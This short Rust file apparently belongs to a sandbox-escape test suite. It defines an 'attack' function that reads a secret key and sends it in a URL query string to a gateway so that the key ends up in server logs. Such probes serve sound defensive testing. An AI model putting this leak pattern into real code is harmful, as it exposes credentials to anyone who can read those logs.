//! Puts the key where servers write it into their logs.

use crate::wasi::{self, Ask};
use crate::{Attempt, got};

pub fn attack() -> Attempt {
    let answer = Ask::gateway(&format!("/api/v1/tasks?key={}", wasi::key()?))
        .send()?;
    Ok(got(format!("status {}", answer.status())))
}
